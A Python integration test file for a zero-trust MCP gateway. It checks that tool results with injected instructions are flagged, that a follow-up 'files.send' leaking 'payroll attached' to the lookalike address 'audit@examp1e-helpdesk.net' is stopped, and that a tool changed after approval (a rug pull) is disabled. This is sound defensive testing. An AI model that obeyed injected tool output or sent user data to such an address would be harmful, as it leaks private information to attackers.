"""MCP upstreams through a real gateway: a stdio server in an enclave and a Streamable HTTP one.

Both are small servers written with the `mcp` SDK (mcp_upstream_server.py).
Their tools are imported at the gateway's start; agents call them through
the MCP front door with the SDK's client, and every call goes through the
pipeline: the injection scan of the upstream's result, provenance and policy
on the next call, and pinning when the server changes a tool (a rug pull).
"""

from __future__ import annotations

import contextlib
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from mcp import Client
from mcp.shared.exceptions import MCPError

from ztgate.clock import SystemClock
from ztgate.config import load_settings
from ztgate.identity.authority import CertificateAuthority
from ztgate.mcp.servers import McpServer, McpServerRegistry
from ztgate.testing import make_settings
from ztgate.tools.registry import ToolRegistry

from .harness import GatewayProcess, TaskCredentials, gateway_toml
from .test_authentication import _register
from .test_enclave import _namespaces_allowed
from .test_mcp import connect as mcp_session

AGENT = "spiffe://ztgate.local/agents/mcp-upstream"
SERVER = Path(__file__).with_name("mcp_upstream_server.py").resolve()
TOOLS = (
    "files.notes",
    "files.send",
    "files.archive",
    "files.rotate",
    "remote.notes",
    "remote.send",
)
ACCESS = ("files.resources.read", "files.prompts.get")

pytestmark = pytest.mark.skipif(
    not _namespaces_allowed(),
    reason="this kernel forbids network namespaces here (`unshare --net true` fails)",
)


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


@pytest.fixture(scope="module")
def remote() -> Iterator[str]:
    """The Streamable HTTP upstream, in its own process."""
    port = _free_port()
    process = subprocess.Popen(
        [sys.executable, str(SERVER), "--http", str(port)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    url = f"http://127.0.0.1:{port}/mcp"
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            with contextlib.suppress(httpx.HTTPError):
                httpx.get(url, timeout=1)
                break
            time.sleep(0.1)
        yield url
    finally:
        process.terminate()
        process.wait(timeout=10)


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory, remote: str) -> Iterator[GatewayProcess]:
    workdir = tmp_path_factory.mktemp("mcp-upstream")
    make_settings(workdir, gateway_toml([], gateway={"authentication": "required"}))
    _register(workdir, AGENT)
    settings = load_settings(workdir / "ztgate.toml")
    database = settings.open_database()
    try:
        database.migrate()
        servers = McpServerRegistry(database, SystemClock())
        servers.add(
            McpServer(
                name="files",
                transport="stdio",
                command=sys.executable,
                args=(str(SERVER),),
                read_only_paths=(str(SERVER),),
                read_only_tools=("notes",),
            )
        )
        servers.add(McpServer(name="remote", transport="http", url=remote))
    finally:
        database.dispose()
    process = GatewayProcess(workdir)
    process.start()
    try:
        yield process
    finally:
        process.stop()


@pytest.fixture
def task(gateway: GatewayProcess) -> TaskCredentials:
    ca = CertificateAuthority.load(gateway.workdir / ".ztgate" / "ca", SystemClock())
    key = ca.issue_x509_svid(AGENT).private_key
    return TaskCredentials(
        gateway.workdir, AGENT, key, tools=(*TOOLS, *ACCESS), intent="Summarise my notes"
    )


def connect(gateway: GatewayProcess) -> contextlib.AbstractAsyncContextManager[Client]:
    return mcp_session(gateway, agent=AGENT)


def _meta(task: TaskCredentials, tool: str, arguments: dict[str, Any]) -> Any:
    return task.mcp_meta(tool, arguments, "the user asked for a summary")


async def _call(client: Client, task: TaskCredentials, tool: str, arguments: dict[str, Any]) -> Any:
    return await client.call_tool(tool, arguments, meta=_meta(task, tool, arguments))


def _tools(gateway: GatewayProcess) -> dict[str, Any]:
    database = load_settings(gateway.config).open_database()
    try:
        return {tool.name: tool for tool in ToolRegistry(database, SystemClock()).all()}
    finally:
        database.dispose()


def test_the_servers_tools_are_imported_with_their_risk(gateway: GatewayProcess) -> None:
    tools = _tools(gateway)
    assert set(TOOLS) <= set(tools)
    assert tools["files.notes"].risk.value == "read"  # says so, and the operator confirmed
    assert tools["remote.notes"].risk.value == "write"  # says so, not confirmed
    assert tools["files.send"].risk.value == "write"
    assert tools["files.send"].upstream_url == "mcp://files/send"
    # (files.archive is the rug-pull test's, which may have run first.)
    assert all(tools[name].pinned for name in TOOLS if name != "files.archive")


async def test_calls_reach_both_servers_through_the_pipeline(
    gateway: GatewayProcess, task: TaskCredentials
) -> None:
    async with connect(gateway) as client:
        listed = await client.list_tools(meta={"ztgate/warrant": task.warrant}, cache_mode="bypass")
        assert {tool.name for tool in listed.tools} == {*TOOLS, *ACCESS}
        sent = await _call(client, task, "remote.send", {"to": "summary", "text": "hi"})
    assert not sent.is_error, sent.content
    assert sent.structured_content == {"sent": {"to": "summary", "text": "hi"}}


async def test_an_injected_result_stops_the_exfiltration_it_asks_for(
    gateway: GatewayProcess, task: TaskCredentials
) -> None:
    async with connect(gateway) as client:
        read = await _call(client, task, "files.notes", {})
        assert not read.is_error
        assert read.structured_content["ztgate"]["action"] == "spotlight"
        leak = {"to": "audit@examp1e-helpdesk.net", "text": "payroll attached"}
        stopped = await _call(client, task, "files.send", leak)
    assert stopped.is_error
    detail = stopped.structured_content["ztgate"]
    assert detail["outcome"] == "ask"
    reason = detail["reasons"][0]["reason"]
    assert "argument came from untrusted content" in reason
    assert "injection found in an earlier result" in reason


async def test_a_rug_pull_disables_the_changed_tool(
    gateway: GatewayProcess, task: TaskCredentials
) -> None:
    async with connect(gateway) as client:
        assert not (await _call(client, task, "files.rotate", {})).is_error
        deadline = time.monotonic() + 15
        while _tools(gateway)["files.archive"].pinned and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not _tools(gateway)["files.archive"].pinned
        assert _tools(gateway)["files.send"].pinned  # what did not change stays usable
        refused = await _call(client, task, "files.archive", {"id": "m-1"})
    assert refused.is_error
    assert "changed since it was approved" in refused.content[0].text


async def test_resources_and_prompts_are_calls_through_the_pipeline(
    gateway: GatewayProcess, task: TaskCredentials
) -> None:
    warrant = {"ztgate/warrant": task.warrant}
    async with connect(gateway) as client:
        resources = (await client.list_resources(meta=warrant, cache_mode="bypass")).resources
        assert [r.uri for r in resources] == [
            "ztgate://files/notes%3A%2F%2Ftoday",
            "ztgate://files/notes%3A%2F%2Fprivate",
        ]
        assert resources[1].description is None  # it read like instructions: not passed on
        uri = str(resources[0].uri)
        read = await client.read_resource(
            uri, meta=_meta(task, "files.resources.read", {"uri": "notes://today"})
        )
        assert read.contents[0].text == "Buy milk."  # type: ignore[union-attr]
        prompts = (await client.list_prompts(meta=warrant, cache_mode="bypass")).prompts
        assert [p.name for p in prompts] == ["files.summarise"]
        signed = {"name": "summarise", "arguments": {"topic": "notes"}}
        got = await client.get_prompt(
            "files.summarise", {"topic": "notes"}, meta=_meta(task, "files.prompts.get", signed)
        )
        assert got.messages[0].content.text == "Summarise notes."  # type: ignore[union-attr]
        with pytest.raises(MCPError, match="proof"):
            await client.read_resource(uri, meta=warrant)


async def test_a_server_added_while_running_is_followed(
    gateway: GatewayProcess, task: TaskCredentials, remote: str
) -> None:
    database = load_settings(gateway.config).open_database()
    try:
        McpServerRegistry(database, SystemClock()).add(
            McpServer(name="late", transport="http", url=remote)
        )
    finally:
        database.dispose()
    async with connect(gateway) as client:
        deadline = time.monotonic() + 20
        while "late.notes" not in _tools(gateway) and time.monotonic() < deadline:
            # Any request lets the gateway see the change; connecting happens beside it.
            await client.list_tools(meta={"ztgate/warrant": task.warrant}, cache_mode="bypass")
            time.sleep(0.2)
    assert "late.notes" in _tools(gateway)


async def test_listing_respects_the_tasks_limits(gateway: GatewayProcess) -> None:
    """A resource or prompt the task may not read is not even listed."""
    ca = CertificateAuthority.load(gateway.workdir / ".ztgate" / "ca", SystemClock())
    key = ca.issue_x509_svid(AGENT).private_key
    limited = {
        "tools": {
            "files.resources.read": {"limits": {"uri": {"pattern": "notes://today"}}},
            "files.prompts.get": {"limits": {"name": {"enum": ["other"]}}},
        }
    }
    task = TaskCredentials(gateway.workdir, AGENT, key, scope=limited)
    warrant = {"ztgate/warrant": task.warrant}
    async with connect(gateway) as client:
        resources = (await client.list_resources(meta=warrant, cache_mode="bypass")).resources
        prompts = (await client.list_prompts(meta=warrant, cache_mode="bypass")).prompts
    assert [r.name for r in resources] == ["today"]
    assert prompts == []
